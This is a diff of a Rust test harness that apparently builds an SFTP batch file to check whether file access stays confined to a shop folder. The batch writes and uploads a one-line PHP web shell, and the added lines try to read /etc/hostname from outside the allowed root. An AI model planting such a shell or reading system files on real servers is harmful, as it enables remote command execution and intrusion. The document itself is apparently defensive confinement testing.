@@ -352,7 +352,11 @@ impl<'a> Stage<'a> {
             let mine = self.folder.join("help.php");
             std::fs::write(&mine, "<?php system($_GET['run']);\n").map_err(full)?;
             let got = self.folder.join("got.php").display().to_string();
-            commands.push_str(&format!("get index.php {got}\nput {} help.php\n", mine.display()));
+            // A file is read; outside the shop there is nothing to be read.
+            let outside = self.folder.join("outside").display().to_string();
+            commands.push_str(&format!("get index.php {got}\n!head -n 1 {got}\n"));
+            commands.push_str(&format!("-get /etc/hostname {outside}\n"));
+            commands.push_str(&format!("put {} help.php\n", mine.display()));
         }
         std::fs::write(&batch, commands).map_err(full)?;
         let key = self.folder.join("supporter").display().to_string();
